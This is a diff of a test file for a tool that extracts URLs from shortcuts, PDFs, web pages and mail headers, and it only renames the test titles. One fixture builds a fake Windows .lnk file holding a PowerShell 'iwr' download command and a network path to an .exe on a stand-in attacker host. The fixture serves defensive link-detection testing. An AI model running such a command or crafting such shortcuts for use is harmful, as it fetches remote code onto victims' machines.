@@ -91,7 +91,7 @@ describe('shortcuts', () => {
     expect(await urlsOf(bytes, { extensions: ['url'] })).toContain('https://evil.example/s');
   });
 
-  test('.lnk, by its first bytes', async () => {
+  test('a .lnk file is recognised by its first bytes', async () => {
     const head = Buffer.from('4c0000000114020000000000c000000000000046', 'hex');
     const body = Buffer.from('x\0\\\\evil.example\\share\\a.exe\0powershell iwr https://evil.example/l', 'utf16le');
     const urls = await urlsOf(Buffer.concat([head, Buffer.alloc(61), body]));
@@ -130,7 +130,7 @@ describe('PDF', () => {
     expect(await urlsOf(bytes)).toContain('https://evil.example/p');
   });
 
-  test('of its producer and its metadata nothing is a link', async () => {
+  test('its producer and its metadata give no links', async () => {
     const objects =
       '90 0 obj\n<</Producer(cairo https://cairographics.example)>>\nendobj\n91 0 obj\n<</Type/Metadata/Subtype/XML/Length 30>>\nstream\n<x a="http://ns.example/1.0/"/>\nendstream\nendobj\n';
     expect(await urlsOf(pdf(objects))).toEqual([]);
@@ -151,7 +151,7 @@ describe('pages and texts', () => {
       );
     },
   );
-  test('a page starts its relative links where its header says', async () => {
+  test('the relative links of a page start from the address in its header', async () => {
     expect(await urlsOf('<a href="x">', { declaredType: 'text/html', base: 'https://evil.example/cl/' })).toEqual([
       'https://evil.example/cl/x',
     ]);
@@ -201,10 +201,10 @@ describe('headers', () => {
       ),
     ).toEqual(['ftp://evil.example/pub/x.exe']);
   });
-  test('a company in the name of a sender is no link', () => {
+  test('a company name with a dot in the name of a sender is no link', () => {
     expect(found('From: Shop.com <news@shop.com>\r\nSubject: Shop.com and you')).toEqual([]);
   });
-  test('say what relative links start from', () => {
+  test('name the address that relative links start from', () => {
     expect(facts('Content-Location: https://evil.example/cl/').base).toBe('https://evil.example/cl/');
     expect(facts('Content-Type: text/plain; format=flowed; delsp=yes').isDelSp).toBe(true);
   });
